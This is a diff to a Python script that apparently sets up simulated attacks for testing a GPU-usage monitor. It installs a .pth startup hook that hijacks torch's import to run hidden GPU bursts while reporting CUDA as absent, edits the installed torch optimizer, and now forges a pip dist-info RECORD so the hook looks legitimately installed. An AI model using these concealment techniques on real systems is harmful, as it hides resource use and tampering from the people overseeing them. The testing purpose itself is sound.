@@ -6,7 +6,8 @@
 * ``borrowed_name``: a ``.pth`` startup hook wraps the loader of ``torch``;
   right after the entrypoint's ``import torch`` it runs a GPU burst compiled
   under the entrypoint's own file name, then tells the program CUDA is absent,
-  so the entrypoint trains on the CPU.
+  so the entrypoint trains on the CPU.  The hook is made to look owned: a
+  distribution's ``RECORD`` is written for it, with its true hashes.
 * ``edited_optimizer``: no hook; ``torch/optim/sgd.py`` of the installed torch
   is edited so CUDA reads absent and every ``SGD.step`` (called from the
   entrypoint's own code) runs a burst on the GPU first.
@@ -53,6 +54,26 @@ SGD.step = _reb_step
 '''
 
 
+def record_line(path: Path, site_dir: Path) -> str:
+    """A RECORD line for ``path``, as pip writes one (urlsafe base64 sha256, no padding)."""
+    import base64
+    import hashlib
+
+    data = path.read_bytes()
+    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+    return f"{path.relative_to(site_dir)},sha256={digest},{len(data)}\n"
+
+
+def forge_owner(site_dir: Path, files: list[Path]) -> None:
+    """A dist-info that lists ``files`` with their true hashes: the hook looks installed."""
+    info = site_dir / "reb_attack_hook-1.0.dist-info"
+    info.mkdir(exist_ok=True)
+    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: reb-attack-hook\nVersion: 1.0\n")
+    (info / "INSTALLER").write_text("pip\n")
+    lines = [record_line(f, site_dir) for f in [*files, info / "METADATA", info / "INSTALLER"]]
+    (info / "RECORD").write_text("".join(lines) + f"{info.name}/RECORD,,\n")
+
+
 def paths() -> tuple[Path, Path, Path]:
     """The hook's module and .pth, and the installed optimizer module."""
     import torch.optim.sgd as sgd
@@ -68,9 +89,11 @@ def main() -> None:
     if name == "borrowed_name" and what == "install":
         module.write_text(HOOK)
         pth.write_text("import _reb_attack_hook\n")
+        forge_owner(module.parent, [module, pth])
     elif name == "borrowed_name":
         module.unlink(missing_ok=True)
         pth.unlink(missing_ok=True)
+        shutil.rmtree(module.parent / "reb_attack_hook-1.0.dist-info", ignore_errors=True)
     elif name == "edited_optimizer" and what == "install":
         shutil.copy2(sgd, backup)
         sgd.write_text(sgd.read_text() + EDIT)
